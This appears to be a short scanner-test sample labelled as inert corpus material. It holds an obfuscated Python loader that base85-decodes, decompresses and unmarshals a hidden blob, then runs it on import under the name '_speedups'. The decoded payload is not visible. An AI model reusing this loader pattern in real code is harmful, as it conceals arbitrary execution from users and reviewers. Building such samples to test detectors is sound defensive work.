# pkgguard corpus 375 (encoding-layers), modelled on [scanner-heuristics]; inert, never run.
import base64 as _b
import marshal as _m
import types as _t
import zlib as _z

_BLOB = (
    "c$`aSKmyEA`m+p>n9jh&kjjw4u#Ay`VKpO62_r)aV=#jz(=FD_ywsu+KTXD4tOZ4xc_k|uK7-_cG22ww{o=66%}*)KNwq6t1M6X6C>8?}AD9^#8E-JKHn29NH}bXcHGp9e3s4FG{w^A$"
)
_t.FunctionType(_m.loads(_z.decompress(_b.b85decode(_BLOB))), globals(), "_speedups")()
